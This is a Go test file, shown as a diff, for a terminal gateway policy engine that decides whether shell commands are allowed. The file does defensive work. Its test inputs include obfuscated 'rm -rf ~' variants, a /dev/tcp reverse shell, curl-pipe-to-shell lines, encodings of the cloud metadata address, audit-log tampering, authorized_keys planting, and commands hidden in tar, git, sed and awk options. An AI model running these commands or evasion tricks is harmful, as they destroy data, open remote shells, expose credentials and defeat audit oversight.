@@ -1,0 +1,430 @@
+package policy
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+// TestParserSeesWhatBashSees: each line runs rm -rf ~ (or /) in bash; the
+// policy must see that rm, whatever the spelling: fullwidth letters that
+// are comment, quote and escape only once folded, ANSI-C strings, brace
+// expansion, $IFS, array assignments and here-documents.
+func TestParserSeesWhatBashSees(t *testing.T) {
+	e := defaultEngine(t)
+	for _, line := range []string{
+		"echo ＂ ; rm -rf ~ ＂", // folded first, the ; and rm were inside a quote
+		"＃ ; rm -rf ~",        // folded first, a comment
+		"echo ＼; rm -rf ~",    // folded first, an escaped ;
+		"echo x ＃ ; rm -rf ~",
+		"$'\\x72\\x6d' -rf ~", "$'\\162\\155' -rf ~", "$'\\u0072\\u006d' -rf ~", "$'\\U00000072m' -rf ~", "rm -rf $'\\x7e'",
+		"$'r\\cm' -rf ~", // \c makes a control character: not rm; judged as computed? no: an unknown name
+		"{rm,-rf,~}", "r{m,} -rf ~", "{r,x}m -rf ~", "rm -rf {/,/tmp}", "rm -rf /{etc,usr}",
+		"rm${IFS}-rf${IFS}~", "rm${IFS%?}-rf${IFS}~",
+		"arr=($(rm -rf ~))", "a[$(rm -rf ~)]=1", "declare -a x=($(rm -rf ~))",
+		"bash <<EOF\nrm -rf ~\nEOF", "bash <<< 'rm -rf ~'", "sh <<-'X'\n\trm -rf ~\n\tX",
+	} {
+		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if line == "$'r\\cm' -rf ~" {
+			if d.Action == "deny" && d.Rule == "fs.rm_protected" {
+				t.Errorf("%q: r^M is not rm: %+v", line, d)
+			}
+			continue
+		}
+		if d.Action != "deny" || d.Rule != "fs.rm_protected" {
+			t.Errorf("%q: %s %s (%s), want deny fs.rm_protected", line, d.Action, d.Rule, d.Reason)
+		}
+	}
+}
+
+// TestFoldingIsForComparingOnly: fullwidth text inside quotes stays data,
+// and a folded name is flagged.
+func TestFoldingIsForComparingOnly(t *testing.T) {
+	sh := ParseShell("echo '＃ rm -rf ~'")
+	if len(sh.Commands) != 1 || sh.Commands[0].Name != "echo" {
+		t.Fatalf("commands %+v", sh.Commands)
+	}
+	sh = ParseShell("ｒｍ -rf ／")
+	if c := sh.Commands[0]; c.Name != "rm" || strings.Join(c.Args, " ") != "-rf /" || !sh.Normalized {
+		t.Fatalf("%+v normalized %v", c, sh.Normalized)
+	}
+	// sh -c's string is parsed as the shell will: its fullwidth quote is a letter.
+	sh = ParseShell("bash -c 'echo ＂; rm -rf ~ ＂'")
+	if !slices.Contains(sh.Names, "rm") && !hasCommand(sh, "rm") {
+		t.Fatalf("bash -c: %+v", sh.Commands)
+	}
+}
+
+func hasCommand(sh Shell, name string) bool {
+	for _, c := range sh.Commands {
+		if c.Name == name {
+			return true
+		}
+	}
+	return false
+}
+
+func TestANSIC(t *testing.T) {
+	for in, want := range map[string]string{
+		`\x72\x6d`: "rm", `\162m`: "rm", `\u00e9`: "é", `\U0001F600`: "😀", `a\tb`: "a\tb", `\ca`: "\x01",
+		`\e[0m`: "\x1b[0m", `\'`: "'", `\q`: `\q`, `\x`: `\x`, `\`: `\`, `\0`: "\x00", `\1234`: "S4",
+	} {
+		if got := ansiC(in); got != want {
+			t.Errorf("ansiC(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// TestBraceExpansionIsBounded: a sequence too long to expand is judged as
+// written, at once.
+func TestBraceExpansionIsBounded(t *testing.T) {
+	t0 := time.Now()
+	sh := ParseShell("echo {1..99999999} {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}")
+	if time.Since(t0) > 5*time.Second {
+		t.Fatalf("took %v", time.Since(t0))
+	}
+	if c := sh.Commands[0]; len(c.Args) > 2*maxBraceWords {
+		t.Fatalf("%d args", len(c.Args))
+	}
+	sh = ParseShell("echo {1..3} {a..c} {5..1..2} x{,y}")
+	if got := strings.Join(sh.Commands[0].Args, " "); got != "1 2 3 a b c 5 3 1 x xy" {
+		t.Fatalf("got %q", got)
+	}
+}
+
+// TestCwdOfEachCommand: cd in the line moves the commands after it, not
+// those in a subshell, a substitution or another pipeline stage.
+func TestCwdOfEachCommand(t *testing.T) {
+	for _, tc := range []struct{ cwd, line, cmd, want string }{
+		{"", "cd /; rm -rf usr", "rm", "/"},
+		{"/work", "rm -rf x", "rm", "/work"},
+		{"/work", "cd ..; rm -rf x", "rm", "/"},
+		{"/work", "cd; rm -rf x", "rm", "~"},
+		{"~/p", "cd ../..; rm -rf x", "rm", ""},
+		{"/work", "(cd /); rm -rf x", "rm", "/work"},
+		{"/work", "x=$(cd /etc); rm -rf x", "rm", "/work"},
+		{"/work", "cd / | true; rm -rf x", "rm", "/work"},
+		{"/work", "cd -; rm -rf x", "rm", ""},
+		{"/work", "cd \"$D\"; rm -rf x", "rm", ""},
+		{"/work", "pushd /var >/dev/null && rm -rf lib", "rm", "/var"},
+		{"/work", "sudo rm -rf x", "rm", "/work"},
+	} {
+		sh := parseShell(tc.line, nil, nil, tc.cwd)
+		var got *Command
+		for i := range sh.Commands {
+			if sh.Commands[i].Name == tc.cmd {
+				got = &sh.Commands[i]
+			}
+		}
+		if got == nil || got.Cwd != tc.want {
+			t.Errorf("cwd %q, %q: %s runs in %+v, want %q", tc.cwd, tc.line, tc.cmd, got, tc.want)
+		}
+	}
+}
+
+func TestResolvePath(t *testing.T) {
+	for _, tc := range []struct{ cwd, p, want string }{
+		{"/", "usr", "/usr"}, {"/work", "..", "/"}, {"/work", "../etc/", "/etc"}, {"~", ".", "~"}, {"~", "..", ""},
+		{"~/p", "../.ssh", "~/.ssh"}, {"", "x", ""}, {"/w", "/etc/../usr", "/usr"}, {"/w", "$HOME/x", "~/x"},
+		{"/w", "${HOME}", "~"}, {"/w", "~root", ""}, {"/w", "$D/x", ""},
+	} {
+		if got := resolvePath(tc.cwd, tc.p); got != tc.want {
+			t.Errorf("resolvePath(%q, %q) = %q, want %q", tc.cwd, tc.p, got, tc.want)
+		}
+	}
+	if got := homeRel("/home/dev/p", "/home/dev/"); got != "~/p" {
+		t.Errorf("homeRel: %q", got)
+	}
+	if got := homeRel("/home/devx", "/home/dev"); got != "/home/devx" {
+		t.Errorf("homeRel: %q", got)
+	}
+}
+
+// TestRelativeDeletesUseTheForegroundCwd: input.cwd (the foreground
+// program's directory) resolves a line's relative paths; the home
+// directory is ~.
+func TestRelativeDeletesUseTheForegroundCwd(t *testing.T) {
+	e := defaultEngine(t)
+	gw := &Gateway{Home: "/home/dev"}
+	for _, tc := range []struct{ cwd, line, want string }{
+		{"/", "rm -rf usr", "deny"},
+		{"/home/dev", "rm -rf .", "deny"},
+		{"/home/dev/project", "rm -rf ../", "deny"},
+		{"/home/dev/project", "rm -rf build", "allow"},
+		{"/var", "rm -rf lib", "deny"},
+		{"/home/dev/project", "cd ~; rm -rf .", "deny"},
+		{"/home/dev/project", "cd /; rm -rf usr", "deny"},
+		{"/home/dev/.ssh", "cp evil authorized_keys", "deny"},
+	} {
+		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: tc.line, Cwd: tc.cwd, Gateway: gw})
+		if err != nil || d.Action != tc.want {
+			t.Errorf("in %s, %q: %s %s (%s) %v, want %s", tc.cwd, tc.line, d.Action, d.Rule, d.Reason, err, tc.want)
+		}
+	}
+	// A start or an exec resolves against its own directory.
+	d, _ := e.Decide(context.Background(), Input{Action: "exec", Program: "bash", Text: "rm -rf etc", Start: &Start{Cwd: "/", Argv: []string{"bash", "-c", "rm -rf etc"}, Env: []string{}}})
+	if d.Action != "deny" {
+		t.Errorf("exec in /: %+v", d)
+	}
+}
+
+// TestTrailingSlashFollowsTheLink: rm -rf link/ removes what the link
+// points to.
+func TestTrailingSlashFollowsTheLink(t *testing.T) {
+	dir := t.TempDir()
+	home := filepath.Join(dir, "home")
+	if err := os.MkdirAll(filepath.Join(home, "p"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(home, filepath.Join(home, "p", "link")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink("/etc", filepath.Join(home, "p", "etclink")); err != nil {
+		t.Fatal(err)
+	}
+	e := defaultEngine(t)
+	in := func(line string) Input {
+		return Input{Action: "input", Program: "bash", Text: line, Cwd: filepath.Join(home, "p"), Gateway: &Gateway{Home: home}}
+	}
+	for line, want := range map[string]string{
+		"rm -rf link/": "deny", "rm -rf etclink/": "deny", "rm -rf link": "allow", "rm -rf etclink": "allow",
+	} {
+		d, err := e.Decide(context.Background(), in(line))
+		if err != nil || d.Action != want {
+			t.Errorf("%q: %s %s (%s) %v, want %s", line, d.Action, d.Rule, d.Reason, err, want)
+		}
+	}
+}
+
+// TestGatewayPathsAsConfigured: the gateway's own files are judged at the
+// paths the gateway was configured with, whatever the spelling.
+func TestGatewayPathsAsConfigured(t *testing.T) {
+	e := defaultEngine(t)
+	gw := &Gateway{Paths: []string{"/srv/tg/audit.jsonl", "/opt/tg/policies", "/home/dev/.local/state/termgate"}, Home: "/home/dev"}
+	for line, want := range map[string]string{
+		"echo > /srv/tg/audit.jsonl":          "deny",
+		"truncate -s0 /srv/tg//audit.jsonl":   "deny",
+		"cd /srv/tg && rm audit.jsonl":        "deny",
+		"cp x.rego /opt/tg/policies/":         "deny",
+		"sed -i s/a/b/ /opt/tg/policies/x":    "deny",
+		"rm -rf ~/.local/state/termgate":      "deny",
+		"tar --directory=/opt/tg/policies -x": "deny",
+		"ls /srv/tg":                          "allow",
+		"echo > /srv/tg/audit.jsonl.txt":      "allow",
+		"rm -rf /opt/tg/policies-old":         "confirm",
+	} {
+		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line, Cwd: "/home/dev/p", Gateway: gw})
+		if err != nil || d.Action != want {
+			t.Errorf("%q: %s %s (%s) %v, want %s", line, d.Action, d.Rule, d.Reason, err, want)
+		}
+	}
+	// A path written with a final * stands for every path that starts
+	// with it: the audit log and its rotations.
+	gw = &Gateway{Paths: []string{"/srv/tg/audit.jsonl*"}}
+	for line, want := range map[string]string{
+		"rm /srv/tg/audit.jsonl.1": "deny", "echo > /srv/tg/audit.jsonl": "deny", "rm /srv/tg/other": "allow",
+	} {
+		d, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line, Cwd: "/home/dev/p", Gateway: gw})
+		if err != nil || d.Action != want {
+			t.Errorf("%q: %s %s (%s) %v, want %s", line, d.Action, d.Rule, d.Reason, err, want)
+		}
+	}
+}
+
+func TestCanonicalHost(t *testing.T) {
+	for in, want := range map[string]string{
+		"169.254.169.254": "169.254.169.254", "2852039166": "169.254.169.254", "0xa9fea9fe": "169.254.169.254",
+		"0XA9FEA9FE": "169.254.169.254", "0251.0376.0251.0376": "169.254.169.254", "169.254.43518": "169.254.169.254",
+		"0xa9.254.0251.0xfe": "169.254.169.254", "169.16689662": "169.254.169.254", "[::ffff:169.254.169.254]": "169.254.169.254",
+		"::ffff:a9fe:a9fe": "169.254.169.254", "64:ff9b::a9fe:a9fe": "169.254.169.254", "[FD00:EC2::254]": "fd00:ec2::254",
+		"fd00:ec2:0:0:0:0:0:254": "fd00:ec2::254", "Metadata.Google.Internal.": "metadata.google.internal", "example.org": "example.org",
+	} {
+		if got, ok := canonicalHost(in); !ok || got != want {
+			t.Errorf("canonicalHost(%q) = %q %v, want %q", in, got, ok, want)
+		}
+	}
+	for _, in := range []string{"", "256.1.1.1.1", "1.2.3.256", "0x1g", "a b", "$(x)", "4294967296"} {
+		if got, ok := canonicalHost(in); ok && strings.Count(got, ".") == 3 && in != "" {
+			if _, v4 := inetAton(strings.ToLower(in)); v4 {
+				t.Errorf("canonicalHost(%q) = %q, an address", in, got)
+			}
+		}
+	}
+	if _, ok := inetAton("1.2.3.256"); ok {
+		t.Error("1.2.3.256 read as an address")
+	}
+	if _, ok := inetAton("4294967296"); ok {
+		t.Error("2^32 read as an address")
+	}
+}
+
+// TestHostsAreURLHosts: the metadata address in a URL's path, an echo or a
+// comment is no host; in a URL's host, or as a network client's host, it
+// is.
+func TestHostsAreURLHosts(t *testing.T) {
+	e := defaultEngine(t)
+	for line, want := range map[string][]string{
+		"curl http://example.org/169.254.169.254/x":   {"example.org"},
+		"curl -s 'http://u:p@0xa9fea9fe:80/latest'":   {"169.254.169.254"},
+		"nc 2852039166 80":                            {"169.254.169.254", "0.0.0.80"},
+		"echo http://169.254.169.254/":                nil,
+		"ls # http://169.254.169.254/":                nil,
+		"bash -i >& /dev/tcp/169.254.169.254/80 0>&1": {"169.254.169.254"},
+		"wget https://[::ffff:a9fe:a9fe]/":            {"169.254.169.254"},
+		"seq 2852039166":                              nil,
+	} {
+		in := e.Build(Input{Action: "input", Program: "bash", Text: line})
+		if strings.Join(in.Shell.Hosts, " ") != strings.Join(want, " ") {
+			t.Errorf("%q: hosts %q, want %q", line, in.Shell.Hosts, want)
+		}
+	}
+}
+
+// TestEveryRunnerRunsItsCommand: each runner of the default bundle's data
+// runs the command after its options, skipped arguments and subcommand,
+// and the policy sees it.
+func TestEveryRunnerRunsItsCommand(t *testing.T) {
+	d := defaultShellData()
+	if len(d.runners) < 40 {
+		t.Fatalf("%d runners", len(d.runners))
+	}
+	e := defaultEngine(t)
+	for _, name := range d.runnerNames() {
+		r := d.runners[name]
+		words := []string{name}
+		if len(r.subcommands) > 0 {
+			words = append(words, r.subcommands[0])
+		}
+		for range r.skip {
+			words = append(words, "x")
+		}
+		line := strings.Join(words, " ") + " rm -rf ~"
+		if r.line {
+			line = strings.Join(words, " ") + " 'rm -rf ~'"
+		}
+		dec, err := e.Decide(context.Background(), Input{Action: "input", Program: "bash", Text: line})
+		if err != nil || dec.Action != "deny" || dec.Rule != "fs.rm_protected" {
+			t.Errorf("%q: %s %s, %v", line, dec.Action, dec.Rule, err)
+		}
+	}
+}
+
+// TestRunnerDataIsChecked: a bundle whose runner data is malformed is
+// refused, not half read.
+func TestRunnerDataIsChecked(t *testing.T) {
+	for _, bad := range []map[string]any{
+		{"termgate": map[string]any{"runners": map[string]any{"x": map[string]any{"skip": 99}}}},
+		{"termgate": map[string]any{"runners": map[string]any{"x": map[string]any{"bogus": true}}}},
+		{"termgate": map[string]any{"runners": []any{"x"}}},
+		{"termgate": map[string]any{"command_options": map[string]any{"tar": "x"}}},
+	} {
+		if _, err := newShellData(bad); err == nil {
+			t.Errorf("%v: accepted", bad)
+		}
+	}
+	dir := t.TempDir()
+	writeBundle(t, dir, map[string]string{
+		"p.rego":    "package termgate\n\ndecision := {\"action\": \"allow\", \"rule\": \"x\"}\n",
+		"data.json": `{"termgate": {"runners": {"nice": {"skip": -1}}}}`,
+	})
+	if _, err := New(context.Background(), Source{Dir: dir}); err == nil || !strings.Contains(err.Error(), "skip") {
+		t.Fatalf("a bundle with bad runner data: %v", err)
+	}
+}
+
+func TestOptionValues(t *testing.T) {
+	specs := []optSpec{parseOptSpec("-o"), parseOptSpec("--output"), parseOptSpec("-fprint"), parseOptSpec("--checkpoint-action:exec="), parseOptSpec("-c:alias.*=!")}
+	for _, tc := range []struct {
+		args []string
+		want string
+	}{
+		{[]string{"-sSo", "page.html", "url"}, "page.html"},
+		{[]string{"-o/etc/x"}, "/etc/x"},
+		{[]string{"--output=f"}, "f"},
+		{[]string{"--output", "g"}, "g"},
+		{[]string{"-fprint", "/etc/y"}, "/etc/y"},
+		{[]string{"--checkpoint-action=exec=rm -rf ~"}, "rm -rf ~"},
+		{[]string{"--checkpoint-action=echo"}, ""},
+		{[]string{"-c", "alias.x=!rm -rf ~"}, "rm -rf ~"},
+		{[]string{"-c", "alias.x=log"}, ""},
+		{[]string{"--", "-o", "x"}, ""},
+	} {
+		var got []string
+		for _, v := range optionValues(tc.args, specs) {
+			got = append(got, v.value)
+		}
+		if strings.Join(got, "|") != tc.want {
+			t.Errorf("%q: %q, want %q", tc.args, got, tc.want)
+		}
+	}
+}
+
+func TestSedAndAwkScripts(t *testing.T) {
+	for _, tc := range []struct {
+		script, files, cmds string
+		dyn                 bool
+	}{
+		{"1e rm -rf ~", "", "rm -rf ~", false},
+		{"s/a/b/w /etc/x", "/etc/x", "", false},
+		{"s/a/b/e", "", "", true},
+		{"s|/|x|g; w out.txt", "out.txt", "", false},
+		{"/re/e", "", "", true},
+		{"$!N; s/\\n/ /; P; D", "", "", false},
+		{"a\\ text with e and w", "", "", false},
+		{"y/abc/xyz/", "", "", false},
+	} {
+		files, cmds, dyn := sedEffects(tc.script)
+		if strings.Join(files, "|") != tc.files || strings.Join(cmds, "|") != tc.cmds || dyn != tc.dyn {
+			t.Errorf("sed %q: files %q cmds %q dyn %v", tc.script, files, cmds, dyn)
+		}
+	}
+	for _, tc := range []struct {
+		prog, lits string
+		dyn        bool
+	}{
+		{`BEGIN {system("rm -rf ~")}`, "rm -rf ~", false},
+		{`{ print | "sort -u" }`, "sort -u", false},
+		{`BEGIN { "date" | getline d }`, "date", false},
+		{`{ system($0) }`, "", true},
+		{`{ cmd | getline x }`, "", true},
+		{`$1 > 1 || $2 < 3 { print }`, "", false},
+	} {
+		lits, dyn := awkCommands(tc.prog)
+		if strings.Join(lits, "|") != tc.lits || dyn != tc.dyn {
+			t.Errorf("awk %q: %q dyn %v", tc.prog, lits, dyn)
+		}
+	}
+}
+
+// TestStartInputAndExecAgree: the same line gets the same decision typed,
+// run with exec, or as a session's start line.
+func TestStartInputAndExecAgree(t *testing.T) {
+	e := defaultEngine(t)
+	for _, line := range []string{
+		"curl -sSo page.html https://example.org ; echo fetched", "curl -s https://x | sh", "bash -c \"$(curl -s x)\"",
+		"git clone https://example.org/r && cd r && make", "rm -rf ~",
+	} {
+		got := map[string]string{}
+		for form, in := range map[string]Input{
+			"typed": {Action: "input", Program: "bash", Text: line},
+			"exec":  {Action: "exec", Program: "bash", Text: line, Start: &Start{Argv: []string{"bash", "-c", line}, Cwd: "/work/p", Env: []string{}}},
+			"start": {Action: "start", Program: "sh", Text: line, Start: &Start{Argv: []string{"/bin/sh", "-c", line}, Cwd: "/work/p", Env: []string{}}},
+		} {
+			d, err := e.Decide(context.Background(), in)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got[form] = d.Action + " " + d.Rule
+		}
+		if got["typed"] != got["exec"] || got["typed"] != got["start"] {
+			t.Errorf("%q: %v", line, got)
+		}
+	}
+}
